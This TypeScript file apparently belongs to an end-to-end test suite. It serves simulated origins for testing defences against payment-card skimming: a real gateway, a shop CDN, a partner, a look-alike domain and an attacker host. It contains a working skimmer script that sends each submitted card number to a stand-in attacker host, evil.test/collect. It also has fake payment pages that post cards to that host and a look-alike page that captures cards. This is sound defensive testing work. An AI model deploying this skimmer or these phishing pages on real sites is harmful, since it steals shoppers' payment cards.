/**
 * The other origins of the suite, served by the forward proxy itself:
 * - the real gateway (`pay.gateway.test`): card form handler, hosted payment page, hosted card
 *   fields, tokenizer script and token API;
 * - the shop's CDN (`cdn.shop.test`): scripts that set markers the suite reads;
 * - the attackers: the 2019 look-alike (`pay-gateway.test`) that captures the card and bounces
 *   the shopper to the real gateway, and `evil.test` (skimmer scripts, fake payment page, fake
 *   card iframe, collectors);
 * - a partner (`media.partner.test`) that legitimate pages link to and show images from.
 * Every script that runs announces itself: allowed ones push a marker onto `window.__markers`,
 * attacker ones send a beacon to `evil.test/ran` (the proof the attack's code ran).
 */
import { CARD_NUMBER, CDN_HOST, EVIL_HOST, GATEWAY_HOST, LOOKALIKE_HOST, PARTNER_HOST } from './world.js';

export interface VirtualResponse {
  readonly status: number;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | Buffer;
}

type Route = (method: string, path: string, body: string) => VirtualResponse | undefined;

const HTML = 'text/html; charset=utf-8';
const JS = 'text/javascript; charset=utf-8';

function html(body: string, status = 200): VirtualResponse {
  return { status, headers: { 'content-type': HTML, 'cache-control': 'no-store' }, body };
}
function js(body: string): VirtualResponse {
  // Module scripts are fetched in CORS mode (HTML §8.1.4.2 "fetch a single module script"): without
  // this header Chromium refuses them, for the CDN and the attacker alike.
  return { status: 200, headers: { 'content-type': JS, 'cache-control': 'no-store', 'access-control-allow-origin': '*' }, body };
}
function redirect(location: string): VirtualResponse {
  return { status: 302, headers: { location, 'cache-control': 'no-store' }, body: '' };
}
const NO_CONTENT: VirtualResponse = { status: 204, headers: { 'cache-control': 'no-store' }, body: '' };

const marker = (name: string): string => `(window.__markers = window.__markers || []).push(${JSON.stringify(name)});\n`;

/** A payment page with one card field and one pay button, posting to `action`. */
function cardFormPage(title: string, action: string): string {
  return `<!doctype html><meta charset=utf-8><title>${title}</title>
<h1>${title}</h1>
<form method=post action="${action}">
  <label>Card number <input id=card name=cardnumber autocomplete=cc-number></label>
  <button id=pay>Pay</button>
</form>\n`;
}

/** The skimmer's code: beacon that it ran, then copy the card field on every submit. */
const SKIMMER = `(function () {
  new Image().src = 'http://${EVIL_HOST}/ran?by=' + encodeURIComponent(document.currentScript ? 'classic' : 'module');
  document.addEventListener('submit', function () {
    var card = document.querySelector('[name=cardnumber]');
    if (card) navigator.sendBeacon('http://${EVIL_HOST}/collect', 'cardnumber=' + card.value);
  }, true);
})();\n`;

const gateway: Route = (method, path) => {
  const pathname = path.split('?')[0];
  if (pathname === '/pay' && method === 'POST') return html('<!doctype html><title>Paid</title><h1>Payment accepted</h1>\n');
  if (pathname === '/pay') return html(cardFormPage('Gateway payment page', '/pay'));
  if (pathname === '/fields') return html(`<!doctype html><title>Card field</title><input id=card name=cardnumber autocomplete=cc-number>\n`);
  if (pathname === '/v3/token.js') return js(TOKENIZER);
  if (pathname === '/tokens' && method === 'POST') {
    return { status: 200, headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' }, body: '{"token":"tok_test_1"}' };
  }
  return undefined;
};

/**
 * The tokenizer: on submit of a `form[data-tokenize]`, sends the card to the gateway's token API,
 * replaces it by the token and submits the form to the shop (which never sees the card).
 */
const TOKENIZER = `${marker('tokenizer')}document.addEventListener('submit', function (event) {
  var form = event.target;
  if (!form.matches || !form.matches('form[data-tokenize]')) return;
  event.preventDefault();
  var card = form.querySelector('[name=cardnumber]');
  fetch('http://${GATEWAY_HOST}/tokens', { method: 'POST', body: 'cardnumber=' + card.value })
    .then(function (r) { return r.json(); })
    .then(function (answer) { card.value = ''; card.name = ''; form.elements.token.value = answer.token; form.submit(); });
});\n`;

const cdn: Route = (_method, path) => {
  const pathname = path.split('?')[0];
  if (pathname === '/app.js') return js(marker('cdn-app'));
  if (pathname === '/app.mjs') return js(`import './lib.mjs';\n${marker('cdn-module')}`);
  if (pathname === '/lib.mjs') return js(marker('cdn-lib'));
  if (pathname === '/style.css') return { status: 200, headers: { 'content-type': 'text/css' }, body: 'body { font-family: sans-serif }\n' };
  return undefined;
};

/** The 2019 look-alike: shows a copy of the gateway's form, keeps the card, bounces to the real gateway. */
const lookalike: Route = (method) => {
  if (method === 'POST') return redirect(`http://${GATEWAY_HOST}/pay`);
  return html(cardFormPage('Gateway payment page', '/pay'));
};

const evil: Route = (method, path) => {
  const pathname = path.split('?')[0];
  if (pathname === '/skim.js' || pathname === '/skim.mjs') return js(SKIMMER);
  if (pathname === '/pay') return html(cardFormPage('Payment', '/collect'));
  if (pathname === '/frame') return html(cardFormPage('Card details', '/collect'));
  if (pathname === '/collect' && method === 'POST') return html('<!doctype html><title>Error</title><p>決済が失敗しました</p>\n');
  return NO_CONTENT;
};

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==',
  'base64',
);

const partner: Route = (_method, path) => {
  const pathname = path.split('?')[0];
  if (pathname === '/logo.png') return { status: 200, headers: { 'content-type': 'image/png' }, body: PIXEL };
  if (pathname === '/fonts.css') return { status: 200, headers: { 'content-type': 'text/css' }, body: 'h1 { letter-spacing: .02em }\n' };
  return html('<!doctype html><title>Partner</title><p>Partner page\n');
};

const HOSTS: Readonly<Record<string, Route>> = {
  [GATEWAY_HOST]: gateway,
  [CDN_HOST]: cdn,
  [LOOKALIKE_HOST]: lookalike,
  [EVIL_HOST]: evil,
  [PARTNER_HOST]: partner,
};

/** The answer of virtual host `host`, or a 502 for a host that does not exist in the suite's world. */
export function virtualHostResponse(host: string, method: string, path: string, body: string): VirtualResponse {
  const route = HOSTS[host];
  if (!route) return { status: 502, headers: { 'content-type': 'text/plain' }, body: `no such host in the e2e world: ${host}\n` };
  return route(method, path, body) ?? { status: 404, headers: { 'content-type': 'text/plain' }, body: 'not found\n' };
}

/** True when `text` (a body or a URL) carries the test card number, plain or with separators. */
export function carriesCard(text: string): boolean {
  let decoded = text.replace(/\+/g, ' ');
  try {
    decoded = decodeURIComponent(decoded);
  } catch {
    // Not percent-encoded text (a raw body): search it as it is.
  }
  return decoded.replace(/[\s-]/g, '').includes(CARD_NUMBER);
}
